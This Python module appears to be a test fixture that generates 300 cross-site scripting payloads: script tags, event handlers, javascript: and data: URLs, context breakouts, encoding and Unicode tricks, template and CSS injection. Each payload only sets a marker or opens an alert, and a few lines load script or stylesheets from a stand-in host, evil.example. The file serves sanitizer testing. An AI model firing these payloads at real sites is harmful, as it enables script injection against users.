"""Three hundred ways in which words have become scripts elsewhere. What ran would set `window.ran`, or open a dialog.

They are of our own making, by kind: markup that runs, addresses that run, what breaks out of a context, what hides from
filters by its encoding, templates, styles, and characters that turn letters around or cut text off.
"""

from __future__ import annotations

from itertools import product
from typing import Final

__all__ = ["PAYLOADS"]

_RUN: Final = "window.ran=1;alert(1)"

_SCRIPTS: Final = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<script>//\n{_RUN}//</script>",
    f"<script type=module>{_RUN}</script>",
    f"<script type=text/javascript async>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<script src='data:,{_RUN}'></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/api/rooms/main/log?format=jsonl></script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{_RUN} /></svg>",
    f"<math><script>{_RUN}</script></math>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
]
_TAGS: Final = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee"),
    *("object data=x", "iframe src=x", "select autofocus", "style", "link rel=stylesheet href=x", "button autofocus"),
)
_EVENTS: Final = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerover", "onbegin"]
_HANDLERS: Final = [f"<{tag} {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS)]
_ODD_HANDLERS: Final = [
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror='{_RUN}'>",
    f"<img src=x onerror=`{_RUN}`>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img\tsrc=x\tonerror={_RUN}>",
    f"<img\nsrc=x\nonerror={_RUN}>",
    f"<img\x0csrc=x\x0conerror={_RUN}>",
    f"<img\rsrc=x\ronerror={_RUN}>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img src=x onerror\n=\n{_RUN}>",
    f"<img src=x:x onerror={_RUN}//",
    "<img src=x onerror=&#119;indow.ran=1>",
    "<img src=x onerror=eval(atob('d2luZG93LnJhbj0x'))>",
    "<img src=x onerror=\\u0077indow.ran=1>",
    "<img src=x onerror=top['ra'+'n']=1>",
    "<img src=x onerror=Function('window.ran=1')()>",
    "<img src=x onerror=setTimeout('window.ran=1')>",
    f"<img srcset=x onerror={_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x to=1>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}/>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>",
    f"<math href=javascript:{_RUN}>x</math>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.ran=1&lt;/script&gt;></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe onload={_RUN}></iframe>",
    f"<embed src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}></object>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<isindex action=javascript:{_RUN} type=image>",
    f"<base href=javascript:{_RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{_RUN}</script>'>",
    f"<link rel=import href=data:text/html,<script>{_RUN}</script>>",
    f"<x onclick={_RUN} tabindex=0 autofocus onfocus={_RUN}>x</x>",
    f"<x contenteditable autofocus onfocus={_RUN}>x",
    f"<dialog open onclose={_RUN}>x</dialog>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio autoplay oncanplay={_RUN} src=data:audio/wav,></audio>",
    f"<table background=javascript:{_RUN}>",
    f"<div style='width:expression({_RUN})'>",
    f"<p/onmouseover={_RUN}>x</p>",
]
_ADDRESSES: Final = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"java\0script:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"javascript:/*--></title></style></textarea></script>{_RUN}//",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"<a href=javascript:{_RUN} autofocus>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"[x](javascript:{_RUN})",
    f"![x](x onerror={_RUN})",
    f'http://x/?"><script>{_RUN}</script>',
    "//evil.example/",
    "..//..//evil.example",
    "\\\\evil.example\\x",
    "blob:null/x",
]
_CONTEXTS: Final = (
    *('"', "'", "`", "-->", "]]>", "</title>", "</style>", "</textarea>", "</script>", "</template>"),
    *("</p>", "</bdi>", "</svg>", "*/", "\\", "\\'", '\\"', "*/-->", "';", '";', "`;", "}", ")}", "${"),
)
_BREAKS: Final = [
    f"{context}{rest}"
    for context, rest in product(
        _CONTEXTS, (f"><img src=x onerror={_RUN}>", f";{_RUN};//", f" onfocus={_RUN} autofocus x=")
    )
]
_ENCODED: Final = [
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"%253Cimg src=x onerror={_RUN}%253E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜script＞{_RUN}＜/script＞",
    f"‹img src=x onerror={_RUN}›",
    f"\u2028<script>{_RUN}</script>",
    f"\u2029{_RUN}//",
    f"\u202e>tpircs/<{_RUN}>tpircs<",
    f"\u2066<img src=x onerror={_RUN}>\u2069",
    f"\u200f<svg onload={_RUN}>",
    f"<\u200bscript>{_RUN}</script>",
    f"<scr\0ipt>{_RUN}</scr\0ipt>",
    f"<img src=x onerr\0or={_RUN}>",
    f"\ufeff<script>{_RUN}</script>",
    f"\x1b]0;<script>{_RUN}</script>\x07",
    f"<ſcript>{_RUN}</ſcript>",
    f"<ımg src=x onerror={_RUN}>",
    f"İ<img src=x onerror={_RUN}>",
    f"<svg><style>&lt;img src=x onerror={_RUN}&gt;</style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noembed><img title='</noembed><img src=x onerror={_RUN}>'>",
    f"<xmp><p title='</xmp><svg/onload={_RUN}>'>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--><svg onload={_RUN}>--!>",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><svg onload={_RUN}>",
    f"<!ENTITY x SYSTEM 'javascript:{_RUN}'>",
]
_TEMPLATES: Final = [
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"{{%raw%}}<script>{_RUN}</script>",
    f"{{{{7*7}}}}<x ng-app ng-csp>{_RUN}</x>",
    f"<x v-html='{_RUN}'>",
    f"<x :title='{_RUN}' @click='{_RUN}'>",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    '{"__proto__":{"ran":1}}',
    f"'-{_RUN}-'",
    f'"-{_RUN}-"',
]
_STYLES: Final = [
    f"<style>@import 'data:text/css,*{{background:url(javascript:{_RUN})}}'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    f"red;background:url(javascript:{_RUN})",
    "}*{display:none}",
    "url(#x) expression(window.ran=1)",
    "var(--hue)} body{visibility:hidden",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style=position:fixed;inset:0;background:red>",
    "</style><style>*{visibility:hidden}",
    "-moz-binding:url(//evil.example/x.xml#x)",
]

PAYLOADS: Final = list(
    dict.fromkeys([*_SCRIPTS, *_ODD_HANDLERS, *_ADDRESSES, *_ENCODED, *_TEMPLATES, *_STYLES, *_BREAKS, *_HANDLERS])
)[:300]
"""Each once."""
